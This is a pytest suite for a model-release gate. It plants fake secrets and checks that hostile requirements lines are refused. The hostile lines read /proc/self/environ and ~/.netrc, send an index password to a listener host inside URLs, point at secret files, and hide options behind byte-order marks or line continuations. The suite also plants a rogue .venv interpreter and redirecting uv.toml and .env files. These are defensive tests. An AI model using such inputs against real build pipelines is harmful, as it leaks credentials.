"""Requirements that try to read a file or a variable, or to reach another host: end to end.

Secrets are planted in the environment, in ~/.netrc and in a file; a host listens that nobody has to
call; the package index is a real one that asks for a password.
"""

import base64
import io
import os
import re
import shutil
import socket
import ssl
import threading
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from ipaddress import ip_address
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import NameOID

from model_release.config import load_config
from model_release.digest import model_digest
from model_release.gates import environment
from model_release.gates.evidence import Claims, Environment
from model_release.gates.outcome import Outcome
from model_release.measurement.collector import Collector
from model_release.measurement.subject import MeasuredModel
from model_release.processes.environments import Lock, install, lock
from model_release.processes.requirements import LockError
from tests.bad_models.limits import write_limits

USER, PASSWORD = "ada", "S3cret/of$the index"
IN_ENVIRONMENT, IN_NETRC, IN_FILE = "planted-in-environment", "planted-in-netrc", "plantedinfile"
PLANTED = (IN_ENVIRONMENT, IN_NETRC, IN_FILE, PASSWORD, "S3cret", "cret%2Fof", "of$the")


def wheel(name: str, requires: str = "") -> bytes:
    """A wheel of one module, which requires what is given."""
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1\n"
    metadata += f"Requires-Dist: {requires}\n" if requires else ""
    about = f"{name}-1.dist-info"
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        file.writestr(f"{name}.py", "")
        file.writestr(f"{about}/METADATA", metadata)
        file.writestr(f"{about}/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        file.writestr(f"{about}/RECORD", "")
    return content.getvalue()


@dataclass
class Index:
    """A package index that asks for a user and a password, unless it is open."""

    wheels: dict[str, bytes] = field(default_factory=dict)
    host: str = ""
    url: str = ""
    asked: list[str] = field(default_factory=list)
    is_open: bool = False

    def add(self, name: str, requires: str = "") -> None:
        self.wheels[name] = wheel(name, requires)

    def answer(self, path: str) -> bytes | None:
        name = path.strip("/").split("/")[-1].removesuffix("-1-py3-none-any.whl").replace("-", "_")
        content = self.wheels.get(name)
        if content is None or path.endswith(".whl"):
            return content
        file = f"/files/{name}-1-py3-none-any.whl#sha256={sha256(content).hexdigest()}"
        return f'<a href="{file}">{file.split("/")[-1].partition("#")[0]}</a>'.encode()


@pytest.fixture
def index() -> Iterator[Index]:
    yield from served(Index())


def served(index: Index, certificate: Path | None = None) -> Iterator[Index]:
    allowed = "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            index.asked.append(self.path)
            known = index.is_open or self.headers.get("Authorization") == allowed
            body = index.answer(self.path) if known else None
            self.send_response(401 if not known else 404 if body is None else 200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body or b"")))
            self.end_headers()
            self.wfile.write(body or b"" if self.command == "GET" else b"")

        do_HEAD = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    if certificate:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(certificate)
        server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, args=(0.01,))
    thread.start()
    index.host = f"127.0.0.1:{server.server_address[1]}"
    index.url = f"http://{index.host}/simple"
    index.add("plain")
    yield index
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def trusted_host(tmp_path: Path, index: Index, monkeypatch: pytest.MonkeyPatch) -> Iterator[Index]:
    """A host with TLS that gives its wheels to everybody; uv trusts its certificate."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "host of a test")])
    now = datetime.now(UTC)
    local = x509.SubjectAlternativeName([x509.IPAddress(ip_address("127.0.0.1"))])
    certificate = x509.CertificateBuilder(name, name, key.public_key(), 1).not_valid_before(now)
    certificate = certificate.not_valid_after(now + timedelta(days=1)).add_extension(local, False)
    pem = certificate.sign(key, SHA256()).public_bytes(Encoding.PEM)
    private = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    path = tmp_path / "certificate.pem"
    path.write_bytes(pem + private)
    monkeypatch.setenv("SSL_CERT_FILE", str(path))
    yield from served(Index(is_open=True), path)


@dataclass
class Listener:
    """A host that is no index of anybody's: where it listens, and what it was sent."""

    address: str
    heard: list[bytes] = field(default_factory=list)


@pytest.fixture
def listener() -> Iterator[Listener]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        listener = Listener(f"127.0.0.1:{server.getsockname()[1]}")

        def listen() -> None:
            while True:
                connection, _ = server.accept()
                with connection:
                    connection.settimeout(5)
                    said = connection.recv(4096)
                    if said == b"end":
                        return
                    listener.heard.append(said)

        thread = threading.Thread(target=listen)
        thread.start()
        yield listener
        with socket.create_connection(server.getsockname()) as last:
            last.sendall(b"end")
        thread.join()


@pytest.fixture
def planted(tmp_path: Path, index: Index, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """Secrets where a pipeline has them; the index's password among them. Files by name."""
    home = tmp_path / "user"
    home.mkdir()
    (home / ".netrc").write_text(f"machine {IN_NETRC}.example login x password {IN_NETRC}\n")
    secret = tmp_path / "secret.txt"
    secret.write_text(f"{IN_FILE}\n")
    for name in [name for name in os.environ if name.startswith("UV_")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("UV_DEFAULT_INDEX", f"private={index.url}")
    monkeypatch.setenv("UV_INDEX_PRIVATE_USERNAME", USER)
    monkeypatch.setenv("UV_INDEX_PRIVATE_PASSWORD", PASSWORD)
    monkeypatch.setenv("UV_INDEX_OTHER_PASSWORD", IN_ENVIRONMENT)
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    monkeypatch.setenv("GITHUB_TOKEN", IN_ENVIRONMENT)
    return {"netrc": home / ".netrc", "secret": secret}


@pytest.fixture
def model(tmp_path: Path) -> Path:
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "python_env.yaml").write_text("python: 3.11.7\n")
    (folder / "requirements.txt").write_text("plain\n")
    return folder


Judged = Callable[[], Outcome]


@pytest.fixture
def judged(model: Path, tmp_path: Path) -> Judged:
    """Asks the gate `environment`, as `validate_model.py` does."""
    server = tmp_path / "server.in"
    server.write_text("plain\n")
    write_limits(tmp_path / "models", "hostile")
    config = load_config("hostile", tmp_path / "models")

    def judged() -> Outcome:
        digest = model_digest(model)
        measured = MeasuredModel("hostile", "1", "READY", model, digest, None, Claims("", {}), None)
        with Collector(
            measured,
            None,
            config,
            home=tmp_path / "home",
            serving_requirements=server,
            fetch_artifact=lambda *_: tmp_path,
        ) as collector:
            return environment.judge(collector.collect(Environment), config.gates.environment)

    return judged


ALLOWED = "files.example.org"

LINES = {
    "variable in a URL": "plain @ http://{host}/${{UV_INDEX_PRIVATE_PASSWORD}}/plain-1-py3-none-any.whl",
    "variable as a user": "plain @ http://${{UV_INDEX_PRIVATE_PASSWORD}}@{host}/plain-1-py3-none-any.whl",
    "URL": "plain @ http://{host}/plain-1-py3-none-any.whl",
    "URL with TLS": "plain@https://{host}/plain-1-py3-none-any.whl",
    "URL of another port": "plain @ https://127.0.0.1:1@{host}/plain-1-py3-none-any.whl",
    "URL without a name": "http://{host}/plain-1-py3-none-any.whl",
    "git": "plain @ git+http://{host}/plain.git",
    "git without a name": "git+http://{host}/plain.git",
    "index behind a byte-order mark": "\ufeff--extra-index-url http://{host}/simple\nplain",
    "index behind a space of another kind": "\u00a0--extra-index-url http://{host}/simple\nplain",
    "index in two lines": "\\\n--extra-index-url http://{host}/simple\nplain",
    "index with a variable": "-i http://{host}/${{UV_INDEX_PRIVATE_PASSWORD}}\nplain",
    "links": "plain\n\x0c-f http://{host}/${{UV_INDEX_PRIVATE_PASSWORD}}",
    "environment as requirements": "-r /proc/self/environ",
    "environment in two lines": "-\\\nr /proc/self/environ",
    "environment behind a byte-order mark": "\ufeff-r /proc/self/environ",
    "file": "plain @ file://{secret}",
    "file in capitals": "plain @ FILE://{secret}",
    "path": "{secret}",
    "path of a package": "plain @ {secret}",
    "path beside the model": "plain @ ../secret.txt",
    "editable": "--editable={secret}",
    "file of the user": "-r ~/.netrc",
}
"""What a line of requirements tries, and how."""


def nothing_planted(text: str) -> None:
    found = [each for each in PLANTED if each.lower() in text.lower()]
    assert found == [], text


@pytest.mark.parametrize("place", ["requirements.txt", "constraints.txt"])
@pytest.mark.parametrize("how", LINES)
def test_a_line_that_is_no_package_is_refused(
    how: str,
    place: str,
    model: Path,
    planted: dict[str, Path],
    listener: Listener,
    index: Index,
    judged: Judged,
    tmp_path: Path,
    capfd: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    line = LINES[how].format(host=listener.address, secret=planted["secret"])
    if place == "constraints.txt":
        (model / "requirements.txt").write_text("plain\n-c constraints.txt\n")
    (model / place).write_text(line)
    outcome = judged()
    assert listener.heard == []
    assert index.asked == []
    assert outcome.status == "failed"
    assert f"{place} of the model; expected packages from the index; found " in outcome.found
    assert not list(tmp_path.glob("home/locks/*"))
    nothing_planted(f"{outcome}{capfd.readouterr()}{caplog.text}")


@pytest.mark.parametrize("place", ["netrc", "secret"])
@pytest.mark.parametrize("option", ["-r", "-c", "--requirement=", "--constraint "])
def test_no_file_of_this_machine_is_quoted(
    option: str, place: str, model: Path, planted: dict[str, Path], judged: Judged
) -> None:
    (model / "requirements.txt").write_text("plain\n-c constraints.txt\n")
    (model / "constraints.txt").write_text(f"{option} {planted[place]}\n")
    outcome = judged()
    assert (outcome.status, "constraints.txt of the model" in outcome.found) == ("failed", True)
    nothing_planted(str(outcome))


@pytest.mark.parametrize("line", ["-r /proc/self/environ", "plain @ http://{host}/${{HOME}}.whl"])
def test_what_other_tools_would_install_is_asked_the_same(
    line: str, model: Path, planted: dict[str, Path], listener: Listener, judged: Judged
) -> None:
    line = line.format(host=listener.address)
    (model / "conda.yaml").write_text(f"dependencies:\n- python=3.11\n- pip:\n  - {line}\n")
    outcome = judged()
    assert (outcome.status, "conda.yaml of the model" in outcome.found) == ("failed", True)
    nothing_planted(str(outcome))


@pytest.mark.parametrize(
    "requires",
    [
        "inner @ http://{host}/${{UV_INDEX_PRIVATE_PASSWORD}}/inner-1-py3-none-any.whl",
        "inner @ http://{host}/${{UV_DEFAULT_INDEX}}${{UV_INDEX_OTHER_PASSWORD}}${{HTTPS_PROXY}}",
        "inner @ ${{UV_INDEX_PRIVATE_PASSWORD}}",
        "inner @ file:///${{UV_INDEX_PRIVATE_PASSWORD}}/inner-1-py3-none-any.whl",
        "inner @ git+http://${{UV_INDEX_PRIVATE_PASSWORD}}/{host}",
    ],
    ids=["URL", "several", "path", "file", "git"],
)
def test_a_package_of_the_index_learns_no_variable(
    requires: str,
    model: Path,
    planted: dict[str, Path],
    listener: Listener,
    index: Index,
    judged: Judged,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Its metadata is as hostile as a line of the model's; uv reads it before anybody else can."""
    monkeypatch.setenv("HTTPS_PROXY", f"http://x:{IN_ENVIRONMENT}@127.0.0.1:9")
    index.add("outer", requires.format(host=listener.address))
    (model / "requirements.txt").write_text("outer\n")
    outcome = judged()
    assert "cannot be locked; found " in outcome.found
    assert "outer" in outcome.found
    assert listener.heard == []
    nothing_planted(str(outcome))


def test_an_allowed_host_is_asked_for_the_wheel_alone(
    model: Path,
    planted: dict[str, Path],
    listener: Listener,
    trusted_host: Index,
    tmp_path: Path,
) -> None:
    """Nobody follows what the wheel requires in turn, which may lead to any other host."""
    inner = "${UV_INDEX_PRIVATE_PASSWORD}/inner-1-py3-none-any.whl"
    content = wheel("direct", f"inner @ http://{listener.address}/{inner}")
    trusted_host.wheels["direct"] = content
    url = f"https://{trusted_host.host}/files/direct-1-py3-none-any.whl"
    digest = sha256(content).hexdigest()
    (model / "requirements.txt").write_text(f"plain\ndirect @ {url}#sha256={digest}\n")
    with pytest.raises(LockError, match=f"a URL of {trusted_host.host}, which is not allowed"):
        locked(model, tmp_path)
    made = locked(model, tmp_path, allow_hosts=(trusted_host.host,))
    assert made.path.read_text().endswith(f"direct @ {url} \\\n    --hash=sha256:{digest}\n")
    assert (made.packages, trusted_host.asked) == (2, [])
    python = install(made.path, made.python, tmp_path / "home")
    assert len(list(python.parents[1].rglob("direct.py"))) == 1
    assert set(trusted_host.asked) == {"/files/direct-1-py3-none-any.whl"}
    assert listener.heard == []
    trusted_host.wheels["direct"] = wheel("direct", "plain")
    shutil.rmtree(tmp_path / "home" / "environments")
    shutil.rmtree(tmp_path / "cache")
    with pytest.raises(LockError, match="Hash mismatch"):
        install(made.path, made.python, tmp_path / "home")


def test_a_password_is_not_quoted_where_the_index_refuses_it(
    model: Path,
    planted: dict[str, Path],
    index: Index,
    judged: Judged,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    wrong = index.url.replace("http://", f"http://ada:{IN_ENVIRONMENT}@")
    monkeypatch.delenv("UV_INDEX_PRIVATE_USERNAME")
    monkeypatch.delenv("UV_INDEX_PRIVATE_PASSWORD")
    for url in (wrong, wrong.replace("127.0.0.1:", "127.0.0.1:x")):
        monkeypatch.setenv("UV_DEFAULT_INDEX", url)
        outcome = judged()
        assert "cannot be locked; found " in outcome.found
        nothing_planted(str(outcome))


def test_nothing_in_the_models_folder_configures_the_installer(
    model: Path, planted: dict[str, Path], listener: Listener, index: Index, tmp_path: Path
) -> None:
    """Neither a project of uv's, nor an environment with a Python, nor a folder of a name."""
    told = tmp_path / "told"
    (model / ".venv" / "bin").mkdir(parents=True)
    (model / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    python = model / ".venv" / "bin" / "python"
    python.write_text(f"#!/bin/sh\necho ran >{told}\nexit 1\n")
    python.chmod(0o755)
    at = f'index-url = "http://{listener.address}/simple"\n'
    (model / "uv.toml").write_text(at)
    (model / "pyproject.toml").write_text(f"[tool.uv]\n{at}[tool.uv.pip]\n{at}")
    (model / ".env").write_text(f"UV_INDEX=http://{listener.address}/simple\n")
    (model / "plain").mkdir()
    made = locked(model, tmp_path)
    assert made.path.read_text().splitlines()[1] == "plain==1 \\"
    assert not told.exists()
    assert listener.heard == []


def test_an_honest_model_gets_its_packages_of_an_index_with_a_password(
    model: Path, planted: dict[str, Path], index: Index, tmp_path: Path
) -> None:
    index.add("named_as_mlflow")
    (model / "requirements.txt").write_text(
        "# compiled from file: requirements.in\n"
        'plain[extra]>=1, <2 ; python_version > "3.8"  # why\n'
        'pywin32==306; sys_platform == "win32"\n'
        "named-as_mlflow \\\n    ==1\n"
        "-c constraints.txt"
    )
    (model / "constraints.txt").write_text("plain==1\nabsent==3\n")
    made = locked(model, tmp_path)
    text = made.path.read_text()
    assert re.findall(r"(?m)^[\w-]+==1", text) == ["named-as-mlflow==1", "plain==1"]
    nothing_planted(text)
    python = install(made.path, made.python, tmp_path / "home")
    assert len(list(python.parents[1].rglob("plain.py"))) == 1


def test_a_model_that_requires_nothing_is_locked_by_the_same_index(
    model: Path, planted: dict[str, Path], index: Index, tmp_path: Path
) -> None:
    (model / "requirements.txt").write_text("")
    assert locked(model, tmp_path).packages == 1
    assert "/simple/plain/" in index.asked


def locked(model: Path, tmp_path: Path, **limits: Any) -> Lock:
    server = tmp_path / "server.in"
    server.write_text("plain\n")
    return lock(model, server, environment.Limits(**limits), tmp_path / "home")
